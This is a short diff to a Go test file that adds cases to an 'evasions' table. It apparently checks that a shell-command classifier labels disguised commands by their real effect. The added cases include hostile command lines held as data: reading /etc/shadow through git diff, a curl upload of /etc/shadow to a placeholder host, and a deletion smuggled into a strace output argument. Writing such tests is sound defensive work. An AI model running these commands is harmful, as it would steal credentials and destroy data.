@@ -74,6 +74,13 @@ var evasions = []struct {
 	least protocol.Effects
 	line  string
 }{
+	{destroy, "rpm -i x.rpm"},
+	{destroy, "rpm -Uvh x.rpm"},
+	{credential, "cd /; git diff /etc/shadow /dev/null"},
+	{destroy, "git diff --no-index a b"},
+	{code, "strace -o '|rm x' ls"},
+	{opaque, "tar xf a -C /a b -C /c d"},
+	{opaque, "curl -F 'x=</etc/shadow' http://h"},
 	{everything, "x=(a)#; rm x"},
 	{everything, "x=(a)\\\n#; rm x"},
 	{destroy, "&>f rm x"},
